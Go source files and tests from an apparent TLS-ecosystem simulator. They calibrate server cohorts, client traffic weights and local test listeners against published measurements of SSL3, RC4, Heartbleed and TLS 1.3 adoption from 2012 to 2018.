		adoption.Point{Date: dd(2015, 3, 1), Value: 0.62},
		adoption.Point{Date: dd(2015, 9, 1), Value: 0.48},
		adoption.Point{Date: dd(2016, 9, 1), Value: 0.42},
		adoption.Point{Date: dd(2018, 5, 1), Value: 0.33},
	)
	// RC4 *support* (kept at the bottom of the list, never preferred) for
	// mid-age and modern fleets. Calibrated to SSL Pulse (§5.3): 92.8% in
	// Oct 2013 → 19.1% in May 2018.
	rc4Support := pw(
		adoption.Point{Date: dd(2012, 1, 1), Value: 0.95},
		adoption.Point{Date: dd(2013, 10, 1), Value: 0.92},
		adoption.Point{Date: dd(2015, 9, 1), Value: 0.58},
		adoption.Point{Date: dd(2016, 9, 1), Value: 0.32},
		adoption.Point{Date: dd(2018, 5, 1), Value: 0.13},
	)
	// Version intolerance among legacy fleets: the broken boxes behind the
	// fallback dance, dying off over the study.
	intolerant := pw(
		adoption.Point{Date: dd(2012, 1, 1), Value: 0.40},
		adoption.Point{Date: dd(2015, 1, 1), Value: 0.25},
		adoption.Point{Date: dd(2018, 5, 1), Value: 0.10},
	)
	// Modern fleets disable SSL3 fast after POODLE.
	ssl3Modern := pw(
		adoption.Point{Date: dd(2012, 1, 1), Value: 0.70},
		adoption.Point{Date: dd(2014, 10, 14), Value: 0.55},
		adoption.Point{Date: dd(2015, 2, 1), Value: 0.25},
		adoption.Point{Date: dd(2015, 9, 1), Value: 0.17},
		adoption.Point{Date: dd(2018, 5, 1), Value: 0.05},
	)

	cohorts := []Cohort{
		{
			Name: "ssl3only",
			Base: handshake.ServerConfig{
				Name: "ssl3only", MinVersion: registry.VersionSSL3, MaxVersion: registry.VersionSSL3,
				Suites:            []uint16{0x0005, 0x0004, 0x000A, 0x0009, 0x0003},
				PreferServerOrder: true,
			},
			Traffic: pw(adoption.Point{Date: dd(2012, 1, 1), Value: 0.016},
				adoption.Point{Date: dd(2014, 6, 1), Value: 0.004},
				adoption.Point{Date: dd(2015, 6, 1), Value: 0.0006},
				adoption.Point{Date: dd(2018, 4, 1), Value: 0.00008}),
			Hosts: pw(adoption.Point{Date: dd(2015, 8, 1), Value: 0.030},
				adoption.Point{Date: dd(2018, 5, 1), Value: 0.010}),
			IntolerantProb: intolerant,
		},
		{
			Name: "legacy-tls10",
			Base: handshake.ServerConfig{
				Name: "legacy-tls10", MinVersion: registry.VersionSSL3, MaxVersion: registry.VersionTLS10,
				Suites: listLegacy10, Curves: serverCurvesClassic,
			},
			Traffic: pw(adoption.Point{Date: dd(2012, 1, 1), Value: 0.30},
				adoption.Point{Date: dd(2013, 8, 1), Value: 0.10},
				adoption.Point{Date: dd(2014, 1, 1), Value: 0.08},
				adoption.Point{Date: dd(2015, 9, 1), Value: 0.055},
				adoption.Point{Date: dd(2016, 6, 1), Value: 0.022},
				adoption.Point{Date: dd(2018, 4, 1), Value: 0.006}),
			Hosts: pw(adoption.Point{Date: dd(2015, 8, 1), Value: 0.10},
				adoption.Point{Date: dd(2018, 5, 1), Value: 0.05}),
			IntolerantProb: intolerant,
		},
		{
			Name: "rc4first-tls10",
			Base: handshake.ServerConfig{
				Name: "rc4first-tls10", MinVersion: registry.VersionSSL3, MaxVersion: registry.VersionTLS10,
				Suites: listRC4First10, PreferServerOrder: true, Curves: serverCurvesClassic,
			},
			Traffic: pw(adoption.Point{Date: dd(2012, 1, 1), Value: 0.24},
				adoption.Point{Date: dd(2013, 8, 1), Value: 0.22},
				adoption.Point{Date: dd(2014, 6, 1), Value: 0.11},
				adoption.Point{Date: dd(2015, 9, 1), Value: 0.040},
				adoption.Point{Date: dd(2016, 6, 1), Value: 0.010},
				adoption.Point{Date: dd(2018, 4, 1), Value: 0.002}),
			Hosts: pw(adoption.Point{Date: dd(2015, 8, 1), Value: 0.050},
				adoption.Point{Date: dd(2018, 5, 1), Value: 0.014}),
			IntolerantProb: intolerant,
		},
		{
			Name: "rc4first-tls12",
			Base: handshake.ServerConfig{
				Name: "rc4first-tls12", MinVersion: registry.VersionSSL3, MaxVersion: registry.VersionTLS12,
				Suites: listRC4First12, PreferServerOrder: true, Curves: serverCurvesClassic,
			},
			Traffic: pw(adoption.Point{Date: dd(2012, 1, 1), Value: 0.11},
				adoption.Point{Date: dd(2013, 8, 1), Value: 0.40},
				adoption.Point{Date: dd(2014, 6, 1), Value: 0.26},
				adoption.Point{Date: dd(2015, 3, 1), Value: 0.14},
				adoption.Point{Date: dd(2015, 9, 1), Value: 0.055},
				adoption.Point{Date: dd(2016, 6, 1), Value: 0.016},
				adoption.Point{Date: dd(2018, 4, 1), Value: 0.003}),
			Hosts: pw(adoption.Point{Date: dd(2015, 8, 1), Value: 0.059},
				adoption.Point{Date: dd(2016, 6, 1), Value: 0.035},
				adoption.Point{Date: dd(2018, 5, 1), Value: 0.017}),
			HeartbeatProb: hbProb,
			SSL3Prob:      ssl3Mid,
		},
		{
			Name: "cbc-tls12",
			Base: handshake.ServerConfig{
				Name: "cbc-tls12", MinVersion: registry.VersionSSL3, MaxVersion: registry.VersionTLS12,
				Suites: listCBC12, PreferServerOrder: true, Curves: serverCurvesClassic,
			},
			Traffic: pw(adoption.Point{Date: dd(2012, 1, 1), Value: 0.24},
				adoption.Point{Date: dd(2013, 8, 1), Value: 0.13},
				adoption.Point{Date: dd(2014, 6, 1), Value: 0.20},
				adoption.Point{Date: dd(2015, 9, 1), Value: 0.19},
				adoption.Point{Date: dd(2016, 10, 1), Value: 0.13},
				adoption.Point{Date: dd(2017, 7, 1), Value: 0.07},
				adoption.Point{Date: dd(2018, 4, 1), Value: 0.045}),
			Hosts: pw(adoption.Point{Date: dd(2015, 8, 1), Value: 0.44},
				adoption.Point{Date: dd(2016, 10, 1), Value: 0.41},
				adoption.Point{Date: dd(2017, 7, 1), Value: 0.31},
				adoption.Point{Date: dd(2018, 5, 1), Value: 0.30}),
			HeartbeatProb: hbProb,
			SSL3Prob:      ssl3Mid,
			RC4Prob:       rc4Support,
		},
		{
			Name: "modern-rsa",
			Base: handshake.ServerConfig{
				Name: "modern-rsa", MinVersion: registry.VersionTLS10, MaxVersion: registry.VersionTLS12,
				Suites: listModernRSA, PreferServerOrder: true,
			},
			Traffic: pw(adoption.Point{Date: dd(2012, 1, 1), Value: 0.015},
				adoption.Point{Date: dd(2013, 6, 1), Value: 0.035},
				adoption.Point{Date: dd(2014, 6, 1), Value: 0.10},
				adoption.Point{Date: dd(2015, 9, 1), Value: 0.085},
				adoption.Point{Date: dd(2016, 6, 1), Value: 0.055},
				adoption.Point{Date: dd(2018, 4, 1), Value: 0.030}),
			Hosts: pw(adoption.Point{Date: dd(2015, 8, 1), Value: 0.045},
				adoption.Point{Date: dd(2018, 5, 1), Value: 0.035}),
			HeartbeatProb: hbProb,
			SSL3Prob:      ssl3Modern,
			RC4Prob:       rc4Support,
		},
		{
			Name: "modern-ecdhe",
			Base: handshake.ServerConfig{
				Name: "modern-ecdhe", MinVersion: registry.VersionTLS10, MaxVersion: registry.VersionTLS12,
				Suites: listModernECDHE, PreferServerOrder: true, Curves: serverCurvesModern,
			},
			Traffic: pw(adoption.Point{Date: dd(2012, 1, 1), Value: 0.035},
				adoption.Point{Date: dd(2013, 5, 1), Value: 0.050},
				adoption.Point{Date: dd(2013, 10, 1), Value: 0.14}, // post-Snowden wave
				adoption.Point{Date: dd(2014, 6, 1), Value: 0.26},
				adoption.Point{Date: dd(2015, 3, 1), Value: 0.38},
				adoption.Point{Date: dd(2015, 9, 1), Value: 0.46},
				adoption.Point{Date: dd(2016, 6, 1), Value: 0.60},
				adoption.Point{Date: dd(2017, 6, 1), Value: 0.70},
				adoption.Point{Date: dd(2018, 4, 1), Value: 0.73}),
			Hosts: pw(adoption.Point{Date: dd(2015, 8, 1), Value: 0.23},
				adoption.Point{Date: dd(2016, 10, 1), Value: 0.30},
				adoption.Point{Date: dd(2018, 5, 1), Value: 0.42}),
			HeartbeatProb: hbProb,
			SSL3Prob:      ssl3Modern,
			RC4Prob:       rc4Support,
		},
		{
			Name: "modern-ecdhe-p384",
			Base: handshake.ServerConfig{
				Name: "modern-ecdhe-p384", MinVersion: registry.VersionTLS10, MaxVersion: registry.VersionTLS12,
				Suites: listModernECDHE, PreferServerOrder: true, Curves: serverCurvesP384Only,
			},
			Traffic: pw(adoption.Point{Date: dd(2012, 1, 1), Value: 0.004},
				adoption.Point{Date: dd(2014, 6, 1), Value: 0.030},
				adoption.Point{Date: dd(2016, 6, 1), Value: 0.055},
				adoption.Point{Date: dd(2018, 4, 1), Value: 0.065}),
			Hosts: pw(adoption.Point{Date: dd(2015, 8, 1), Value: 0.020},
				adoption.Point{Date: dd(2018, 5, 1), Value: 0.030}),
			HeartbeatProb: hbProb,
			SSL3Prob:      ssl3Modern,
			RC4Prob:       rc4Support,
		},
		{
			Name: "chacha-edge",
			Base: handshake.ServerConfig{
				Name: "chacha-edge", MinVersion: registry.VersionTLS10, MaxVersion: registry.VersionTLS12,
				Suites: listChaChaEdge, PreferServerOrder: true, Curves: serverCurvesModern,
			},
			Traffic: pw(adoption.Point{Date: dd(2015, 6, 1), Value: 0.0},
				adoption.Point{Date: dd(2016, 6, 1), Value: 0.012},
				adoption.Point{Date: dd(2018, 4, 1), Value: 0.022}),
			Hosts: pw(adoption.Point{Date: dd(2015, 8, 1), Value: 0.0},
				adoption.Point{Date: dd(2018, 5, 1), Value: 0.008}),
			SSL3Prob: ssl3Modern,
		},
		{
			Name: "dhe-fs",
			Base: handshake.ServerConfig{
				Name: "dhe-fs", MinVersion: registry.VersionSSL3, MaxVersion: registry.VersionTLS12,
				Suites: listDHE, PreferServerOrder: true, Curves: serverCurvesClassic,
			},
			Traffic: pw(adoption.Point{Date: dd(2012, 1, 1), Value: 0.012},
				adoption.Point{Date: dd(2013, 10, 1), Value: 0.035},
				adoption.Point{Date: dd(2014, 9, 1), Value: 0.085},
				adoption.Point{Date: dd(2015, 9, 1), Value: 0.050},
				adoption.Point{Date: dd(2016, 9, 1), Value: 0.028},
				adoption.Point{Date: dd(2018, 4, 1), Value: 0.012}),
			Hosts: pw(adoption.Point{Date: dd(2015, 8, 1), Value: 0.040},
				adoption.Point{Date: dd(2018, 5, 1), Value: 0.025}),
			HeartbeatProb: hbProb,
			SSL3Prob:      ssl3Mid,
			RC4Prob:       rc4Support,
		},
		{
			Name: "tls13",
			Base: handshake.ServerConfig{
				Name: "tls13", MinVersion: registry.VersionTLS10, MaxVersion: registry.VersionTLS13,
				Suites: listTLS13, PreferServerOrder: true, Curves: serverCurvesModern,
				TLS13Variants: []registry.Version{
					registry.VersionTLS13Google, registry.VersionTLS13Draft18,
				},
			},
			Traffic: pw(adoption.Point{Date: dd(2016, 9, 1), Value: 0.0},
				adoption.Point{Date: dd(2016, 11, 1), Value: 0.010},
				adoption.Point{Date: dd(2017, 6, 1), Value: 0.035},
				adoption.Point{Date: dd(2018, 1, 1), Value: 0.050},
				adoption.Point{Date: dd(2018, 4, 1), Value: 0.062}),
			Hosts: pw(adoption.Point{Date: dd(2016, 9, 1), Value: 0.0},
				adoption.Point{Date: dd(2018, 5, 1), Value: 0.020}),
			HeartbeatProb: hbProb,
		},
		{
			Name: "3des-pref",
			Base: handshake.ServerConfig{
				Name: "3des-pref", MinVersion: registry.VersionSSL3, MaxVersion: registry.VersionTLS12,
				Suites: list3DES, PreferServerOrder: true, Curves: serverCurvesClassic,
			},
			Traffic: adoption.Constant(0.0008),
			Hosts: pw(adoption.Point{Date: dd(2015, 8, 1), Value: 0.0054},
				adoption.Point{Date: dd(2018, 5, 1), Value: 0.0025}),
			SSL3Prob: ssl3Mid,
		},
		// --- Special cohorts with client affinity ---
		{
			Name: "gridftp",
			Base: handshake.ServerConfig{
				Name: "gridftp", MinVersion: registry.VersionTLS10, MaxVersion: registry.VersionTLS12,
				Suites: listGrid, PreferServerOrder: true,
			},
			Traffic: adoption.Constant(0.004),
			Hosts:   adoption.Constant(0.002),
		},
		{
			Name: "nagios",
			Base: handshake.ServerConfig{
				Name: "nagios", MinVersion: registry.VersionSSL3, MaxVersion: registry.VersionTLS10,
				Suites: listNagios, PreferServerOrder: true, SupportsSSLv2: true,
			},
			Traffic: adoption.Constant(0.0015),
			Hosts:   adoption.Constant(0.0005),
		},
		{
			Name: "interwise",
			Base: handshake.ServerConfig{
				Name: "interwise", MinVersion: registry.VersionSSL3, MaxVersion: registry.VersionTLS10,
				Suites: listInterwise, Misbehavior: handshake.BehaveExportDowngrade,
			},
			Traffic: adoption.Constant(0.0008),
			Hosts:   adoption.Constant(0.0004),
		},
		{
			Name: "gost",
			Base: handshake.ServerConfig{
				Name: "gost", MinVersion: registry.VersionTLS10, MaxVersion: registry.VersionTLS12,
				Suites: listGOST, Misbehavior: handshake.BehaveChooseGOST,
			},
			Traffic: adoption.Constant(0.0012),
			Hosts:   adoption.Constant(0.0015),
		},
		{
			Name: "rc4-pref-misconfig",
			Base: handshake.ServerConfig{
				Name: "rc4-pref-misconfig", MinVersion: registry.VersionSSL3, MaxVersion: registry.VersionTLS12,
				Suites: listBankmellat, PreferServerOrder: true, Curves: serverCurvesClassic,
				Misbehavior: handshake.BehavePreferRC4,
			},
			Traffic:  adoption.Constant(0.0015),
			Hosts:    adoption.Constant(0.003),
			SSL3Prob: ssl3Mid,
		},
	}

	sp := &ServerPopulation{
		cohorts: cohorts,
		affinity: map[string]string{
			"Globus GridFTP":   "gridftp",
			"Nagios check_tcp": "nagios",
			"Interwise client": "interwise",
		},
		vulnGivenHeartbeat: vuln,
	}
	if err := sp.Validate(); err != nil {
		panic(err)
	}
	return sp
}
