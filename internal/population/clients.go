package population

import (
	"time"

	"tlsage/internal/adoption"
	"tlsage/internal/clientdb"
	"tlsage/internal/timeline"
)

func dd(y int, m time.Month, day int) timeline.Date { return timeline.D(y, m, day) }

func pw(points ...adoption.Point) adoption.Curve { return adoption.MustPiecewise(points...) }

// defaultClientWeights is the calibrated traffic share per profile. The
// absolute values are relative weights (normalized at sample time); the
// calibration targets are Table 2's per-class coverage and the
// advertisement figures (3, 6, 7, 10).
//
// Note the split the paper explains under Table 2: "Chrome on Android is
// just identified as Android SDK" — mobile browser traffic is carried by
// the OS library profiles, which is why Libraries (46.49%) dwarf Browsers
// (15.63%) in coverage.
var defaultClientWeights = map[string]adoption.Curve{
	// Desktop browsers (Table 2: 15.63% together).
	"Chrome": pw(adoption.Point{Date: dd(2012, 1, 1), Value: 0.085},
		adoption.Point{Date: dd(2015, 1, 1), Value: 0.105},
		adoption.Point{Date: dd(2018, 4, 1), Value: 0.115}),
	"Firefox": pw(adoption.Point{Date: dd(2012, 1, 1), Value: 0.075},
		adoption.Point{Date: dd(2015, 1, 1), Value: 0.055},
		adoption.Point{Date: dd(2018, 4, 1), Value: 0.035}),
	"Safari": adoption.Constant(0.016),
	"IE/Edge": pw(adoption.Point{Date: dd(2012, 1, 1), Value: 0.055},
		adoption.Point{Date: dd(2015, 1, 1), Value: 0.030},
		adoption.Point{Date: dd(2018, 4, 1), Value: 0.015}),
	"Opera": adoption.Constant(0.005),

	// Libraries (Table 2: 46.49%). Android and iOS carry mobile browsing.
	"OpenSSL": pw(adoption.Point{Date: dd(2012, 1, 1), Value: 0.150},
		adoption.Point{Date: dd(2018, 4, 1), Value: 0.130}),
	"Android SDK": pw(adoption.Point{Date: dd(2012, 1, 1), Value: 0.070},
		adoption.Point{Date: dd(2015, 1, 1), Value: 0.130},
		adoption.Point{Date: dd(2018, 4, 1), Value: 0.165}),
	"Apple Secure Transport": pw(adoption.Point{Date: dd(2012, 1, 1), Value: 0.080},
		adoption.Point{Date: dd(2018, 4, 1), Value: 0.130}),
	"MS CryptoAPI": pw(adoption.Point{Date: dd(2012, 1, 1), Value: 0.075},
		adoption.Point{Date: dd(2018, 4, 1), Value: 0.040}),
	"Java JSSE": adoption.Constant(0.030),
	"Globus GridFTP": pw(adoption.Point{Date: dd(2012, 1, 1), Value: 0.050}, // §6.1: NULL traffic, 2.84% dataset-wide
		adoption.Point{Date: dd(2015, 1, 1), Value: 0.022},
		adoption.Point{Date: dd(2018, 4, 1), Value: 0.005}),

	// OS tools and services (Table 2: 2.29%).
	"Apple Spotlight":  adoption.Constant(0.020),
	"Nagios check_tcp": adoption.Constant(0.002),
	"Interwise client": adoption.Constant(0.0007),

	// Mobile apps (Table 2: 1.35%).
	"Facebook app (bundled TLS)": adoption.Constant(0.010),
	"Hola VPN":                   adoption.Constant(0.0012),
	"Lookout Personal":           adoption.Constant(0.0012),
	"Craftar Image Recognition":  adoption.Constant(0.0007),

	// Dev tools (Table 2: 0.88%).
	"curl/git (OpenSSL)": adoption.Constant(0.007),
	"Shodan scanner":     adoption.Constant(0.002),

	// AV and middleware (Table 2: 0.85%).
	"AV/Proxy (Avast, Blue Coat)": adoption.Constant(0.006),
	"Kaspersky":                   adoption.Constant(0.003),

	// Cloud storage (Table 2: 0.71%).
	"Dropbox": adoption.Constant(0.007),

	// Email (Table 2: 0.58%).
	"Apple Mail":  adoption.Constant(0.004),
	"Thunderbird": adoption.Constant(0.002),

	// Malware & PUP (Table 2: 0.48%).
	"Zbot":         adoption.Constant(0.002),
	"InstallMoney": adoption.Constant(0.0015),

	// Unlabeled long tail (the ~30% outside fingerprint coverage).
	"unknown-tools": pw(adoption.Point{Date: dd(2012, 1, 1), Value: 0.150},
		adoption.Point{Date: dd(2018, 4, 1), Value: 0.130}),
	"unknown-embedded": pw(adoption.Point{Date: dd(2012, 1, 1), Value: 0.075},
		adoption.Point{Date: dd(2016, 1, 1), Value: 0.050},
		adoption.Point{Date: dd(2018, 4, 1), Value: 0.020}),
	// The mid-2015 two-month spike of anonymous/NULL advertisers (§6.2:
	// 5.8% → 12.9% and back).
	"unknown-legacyapp": pw(
		adoption.Point{Date: dd(2012, 1, 1), Value: 0.030},
		adoption.Point{Date: dd(2015, 5, 20), Value: 0.030},
		adoption.Point{Date: dd(2015, 6, 15), Value: 0.095},
		adoption.Point{Date: dd(2015, 8, 15), Value: 0.095},
		adoption.Point{Date: dd(2015, 9, 20), Value: 0.040},
		adoption.Point{Date: dd(2018, 4, 1), Value: 0.030}),
	// Cipher-order randomizer: tiny traffic, huge fingerprint count (§4.1).
	"unknown-randomizer": adoption.Constant(0.004),
}

// DefaultClients returns the calibrated study client population.
func DefaultClients() *ClientPopulation {
	var entries []WeightedProfile
	for _, p := range clientdb.AllProfiles() {
		w, ok := defaultClientWeights[p.Name]
		if !ok {
			panic("population: no weight for profile " + p.Name)
		}
		entries = append(entries, WeightedProfile{Profile: p, Weight: w})
	}
	cp, err := NewClientPopulation(entries)
	if err != nil {
		panic(err)
	}
	return cp
}
