package population

import (
	"math"
	"math/rand"
	"testing"
	"time"

	"tlsage/internal/clientdb"
	"tlsage/internal/registry"
	"tlsage/internal/timeline"
)

func TestDefaultClientsCoversAllProfiles(t *testing.T) {
	cp := DefaultClients()
	if len(cp.Profiles()) != len(clientdb.AllProfiles()) {
		t.Fatalf("population covers %d profiles, clientdb has %d",
			len(cp.Profiles()), len(clientdb.AllProfiles()))
	}
}

func TestClientWeightsNormalized(t *testing.T) {
	cp := DefaultClients()
	for _, d := range []timeline.Date{
		timeline.D(2012, time.March, 15), timeline.D(2015, time.July, 15),
		timeline.D(2018, time.April, 15),
	} {
		w := cp.Weights(d)
		sum := 0.0
		for _, v := range w {
			if v < 0 {
				t.Fatalf("negative weight at %v", d)
			}
			sum += v
		}
		if math.Abs(sum-1) > 1e-9 {
			t.Fatalf("weights at %v sum to %v", d, sum)
		}
	}
}

func TestClassSharesMatchTable2Shape(t *testing.T) {
	// Table 2's coverage ordering: Libraries ≫ Browsers ≫ everything else,
	// with roughly 30% unlabeled.
	cp := DefaultClients()
	byClass, unlabeled := cp.ClassShare(timeline.D(2016, time.June, 15))
	if byClass[clientdb.ClassLibrary] <= byClass[clientdb.ClassBrowser] {
		t.Errorf("Libraries (%0.3f) should exceed Browsers (%0.3f)",
			byClass[clientdb.ClassLibrary], byClass[clientdb.ClassBrowser])
	}
	if byClass[clientdb.ClassBrowser] <= byClass[clientdb.ClassOSTool] {
		t.Errorf("Browsers (%0.3f) should exceed OS tools (%0.3f)",
			byClass[clientdb.ClassBrowser], byClass[clientdb.ClassOSTool])
	}
	if unlabeled < 0.18 || unlabeled > 0.42 {
		t.Errorf("unlabeled share = %0.3f, want ≈0.30", unlabeled)
	}
	labeled := 1 - unlabeled
	if labeled < 0.55 || labeled > 0.85 {
		t.Errorf("labeled share = %0.3f, want ≈0.69 (Table 2)", labeled)
	}
}

func TestClientSampleDistribution(t *testing.T) {
	cp := DefaultClients()
	rnd := rand.New(rand.NewSource(5))
	d := timeline.D(2016, time.June, 15)
	counts := map[string]int{}
	const n = 20000
	for i := 0; i < n; i++ {
		p, idx := cp.Sample(d, rnd)
		counts[p.Name]++
		if idx < 0 || idx >= len(p.Releases) {
			t.Fatal("release index out of range")
		}
	}
	w := cp.Weights(d)
	// Spot-check the two biggest profiles within 2 percentage points.
	for _, name := range []string{"Android SDK", "OpenSSL"} {
		got := float64(counts[name]) / n
		if math.Abs(got-w[name]) > 0.02 {
			t.Errorf("%s sampled share %0.3f vs weight %0.3f", name, got, w[name])
		}
	}
}

func TestServerPopulationValidates(t *testing.T) {
	sp := DefaultServers()
	if err := sp.Validate(); err != nil {
		t.Fatal(err)
	}
	if len(sp.Cohorts()) < 12 {
		t.Errorf("expected ≥12 cohorts, got %d", len(sp.Cohorts()))
	}
}

func TestServerWeightsNormalized(t *testing.T) {
	sp := DefaultServers()
	for _, u := range []Universe{ByTraffic, ByHosts} {
		for _, d := range []timeline.Date{
			timeline.D(2013, time.August, 15), timeline.D(2015, time.September, 15),
			timeline.D(2018, time.April, 15),
		} {
			w := sp.Weights(d, u)
			sum := 0.0
			for _, v := range w {
				sum += v
			}
			if math.Abs(sum-1) > 1e-9 {
				t.Fatalf("universe %d weights at %v sum to %v", u, d, sum)
			}
		}
	}
}

func TestRC4CohortTrafficPeaksAugust2013(t *testing.T) {
	// Fig 2: RC4 negotiation peaked around 60% in August 2013.
	sp := DefaultServers()
	w := sp.Weights(timeline.D(2013, time.August, 15), ByTraffic)
	rc4 := w["rc4first-tls10"] + w["rc4first-tls12"]
	if rc4 < 0.50 || rc4 > 0.70 {
		t.Errorf("RC4-preferring traffic share Aug 2013 = %0.3f, want ≈0.60", rc4)
	}
	w2018 := sp.Weights(timeline.D(2018, time.March, 15), ByTraffic)
	if tail := w2018["rc4first-tls10"] + w2018["rc4first-tls12"]; tail > 0.02 {
		t.Errorf("RC4-preferring traffic share 2018 = %0.3f, want ≈0", tail)
	}
}

func TestRC4HostSharesMatchCensysScalars(t *testing.T) {
	// §5.3: 11.2% of hosts chose RC4 in Sep 2015, 3.4% in May 2018.
	sp := DefaultServers()
	rc4Choosers := func(d timeline.Date) float64 {
		w := sp.Weights(d, ByHosts)
		return w["rc4first-tls10"] + w["rc4first-tls12"] + w["rc4-pref-misconfig"]
	}
	if got := rc4Choosers(timeline.D(2015, time.September, 15)); math.Abs(got-0.112) > 0.02 {
		t.Errorf("RC4-choosing hosts Sep 2015 = %0.3f, want ≈0.112", got)
	}
	if got := rc4Choosers(timeline.D(2018, time.May, 13)); math.Abs(got-0.034) > 0.01 {
		t.Errorf("RC4-choosing hosts May 2018 = %0.3f, want ≈0.034", got)
	}
}

func TestSSL3HostSupportMatchesCensys(t *testing.T) {
	// §5.1: >45% of servers supported SSL3 in Sep 2015, <25% in May 2018.
	sp := DefaultServers()
	rnd := rand.New(rand.NewSource(9))
	support := func(d timeline.Date) float64 {
		n, hits := 60000, 0
		for i := 0; i < n; i++ {
			_, cfg := sp.Sample(d, ByHosts, rnd)
			if cfg.MinVersion <= registry.VersionSSL3 {
				hits++
			}
		}
		return float64(hits) / float64(n)
	}
	sep15 := support(timeline.D(2015, time.September, 15))
	may18 := support(timeline.D(2018, time.May, 13))
	if sep15 < 0.40 || sep15 > 0.52 {
		t.Errorf("SSL3 support Sep 2015 = %0.3f, want ≈0.45", sep15)
	}
	if may18 < 0.15 || may18 > 0.25 {
		t.Errorf("SSL3 support May 2018 = %0.3f, want <0.25 (≈0.22)", may18)
	}
	if may18 >= sep15 {
		t.Error("SSL3 support should decline")
	}
}

func TestHeartbleedDynamics(t *testing.T) {
	sp := DefaultServers()
	rnd := rand.New(rand.NewSource(10))
	measure := func(d timeline.Date) (hb, vuln float64) {
		n := 60000
		var nhb, nv int
		for i := 0; i < n; i++ {
			_, cfg := sp.Sample(d, ByHosts, rnd)
			if cfg.HeartbeatEnabled {
				nhb++
			}
			if cfg.HeartbleedVulnerable {
				nv++
			}
		}
		return float64(nhb) / float64(n), float64(nv) / float64(n)
	}
	// At disclosure: ≈24% vulnerable (paper: at least 23.7%).
	_, vulnAtDisclosure := measure(timeline.D(2014, time.April, 8))
	if vulnAtDisclosure < 0.17 || vulnAtDisclosure > 0.30 {
		t.Errorf("vulnerable at disclosure = %0.3f, want ≈0.24", vulnAtDisclosure)
	}
	// A month later: below 3% (paper: <2% within a month, 5.9% first scan).
	_, vulnMonthLater := measure(timeline.D(2014, time.May, 10))
	if vulnMonthLater > 0.04 {
		t.Errorf("vulnerable a month later = %0.3f, want <0.04", vulnMonthLater)
	}
	// May 2018: heartbeat ≈34%, vulnerable ≈0.32%.
	hb2018, vuln2018 := measure(timeline.D(2018, time.May, 13))
	if hb2018 < 0.25 || hb2018 > 0.42 {
		t.Errorf("heartbeat support 2018 = %0.3f, want ≈0.34", hb2018)
	}
	if vuln2018 < 0.001 || vuln2018 > 0.007 {
		t.Errorf("vulnerable 2018 = %0.4f, want ≈0.0032", vuln2018)
	}
}

func TestAffinityRouting(t *testing.T) {
	sp := DefaultServers()
	rnd := rand.New(rand.NewSource(11))
	d := timeline.D(2015, time.June, 15)
	c, cfg := sp.SampleForClient("Nagios check_tcp", d, rnd)
	if c.Name != "nagios" || !cfg.SupportsSSLv2 {
		t.Errorf("nagios affinity broken: %s", c.Name)
	}
	c, _ = sp.SampleForClient("Globus GridFTP", d, rnd)
	if c.Name != "gridftp" {
		t.Errorf("gridftp affinity broken: %s", c.Name)
	}
	c, _ = sp.SampleForClient("Interwise client", d, rnd)
	if c.Name != "interwise" {
		t.Errorf("interwise affinity broken: %s", c.Name)
	}
	// Ordinary clients never land on special cohorts deterministically.
	seen := map[string]bool{}
	for i := 0; i < 500; i++ {
		c, _ := sp.SampleForClient("Chrome", d, rnd)
		seen[c.Name] = true
	}
	if len(seen) < 3 {
		t.Error("Chrome should spread across cohorts")
	}
}

func TestInstantiateDoesNotMutateBase(t *testing.T) {
	sp := DefaultServers()
	rnd := rand.New(rand.NewSource(12))
	c, ok := sp.CohortByName("modern-ecdhe")
	if !ok {
		t.Fatal("cohort missing")
	}
	baseMin := c.Base.MinVersion
	for i := 0; i < 200; i++ {
		_, cfg := sp.Sample(timeline.D(2013, time.June, 15), ByTraffic, rnd)
		_ = cfg
	}
	if c.Base.MinVersion != baseMin {
		t.Error("Sample mutated cohort base config")
	}
}

func TestTLS13CohortOnlyAfter2016(t *testing.T) {
	sp := DefaultServers()
	w := sp.Weights(timeline.D(2015, time.June, 15), ByTraffic)
	if w["tls13"] > 0 {
		t.Error("tls13 cohort present before 2016")
	}
	w = sp.Weights(timeline.D(2018, time.April, 15), ByTraffic)
	if w["tls13"] < 0.03 || w["tls13"] > 0.10 {
		t.Errorf("tls13 traffic share Apr 2018 = %0.3f, want ≈0.06", w["tls13"])
	}
}
