// Package serverfarm runs real TCP listeners that answer TLS ClientHellos
// using the population's server configurations — the synthetic stand-in for
// the IPv4 hosts Censys scanned. Each farm host accepts a connection, reads
// one hello (TLS or SSLv2), runs the negotiation engine and answers with a
// ServerHello or an alert, then closes.
//
// The farm exists so the scanner package exercises a genuine network path:
// dial, deadline, banner read, parse. Handshakes do not proceed past the
// hello exchange — exactly the depth the study's scans needed.
package serverfarm

import (
	"errors"
	"fmt"
	"io"
	"net"
	"sync"
	"time"

	"tlsage/internal/handshake"
	"tlsage/internal/registry"
	"tlsage/internal/wire"
)

// Host is one simulated server: a TCP listener bound to a configuration.
type Host struct {
	cfg     *handshake.ServerConfig
	cohort  string
	ln      net.Listener
	wg      sync.WaitGroup
	mu      sync.Mutex
	closed  bool
	timeout time.Duration
	served  int
}

// StartHost launches a listener on addr (use "127.0.0.1:0" for an ephemeral
// port) answering with cfg.
func StartHost(addr string, cohort string, cfg *handshake.ServerConfig, timeout time.Duration) (*Host, error) {
	if err := cfg.Validate(); err != nil {
		return nil, err
	}
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return nil, fmt.Errorf("serverfarm: %w", err)
	}
	if timeout <= 0 {
		timeout = 5 * time.Second
	}
	h := &Host{cfg: cfg, cohort: cohort, ln: ln, timeout: timeout}
	h.wg.Add(1)
	go h.acceptLoop()
	return h, nil
}

// Addr returns the host's listen address.
func (h *Host) Addr() string { return h.ln.Addr().String() }

// Cohort returns the cohort label the host was configured from.
func (h *Host) Cohort() string { return h.cohort }

// Config returns the host's configuration (read-only).
func (h *Host) Config() *handshake.ServerConfig { return h.cfg }

// Served reports how many connections the host has answered.
func (h *Host) Served() int {
	h.mu.Lock()
	defer h.mu.Unlock()
	return h.served
}

// Close stops the listener and waits for in-flight connections.
func (h *Host) Close() error {
	h.mu.Lock()
	if h.closed {
		h.mu.Unlock()
		return nil
	}
	h.closed = true
	h.mu.Unlock()
	err := h.ln.Close()
	h.wg.Wait()
	return err
}

func (h *Host) acceptLoop() {
	defer h.wg.Done()
	for {
		conn, err := h.ln.Accept()
		if err != nil {
			return // listener closed
		}
		h.wg.Add(1)
		go func() {
			defer h.wg.Done()
			h.serve(conn)
		}()
	}
}

// serve answers one hello exchange, then — when heartbeat was negotiated —
// at most one heartbeat request (the Heartbleed check path).
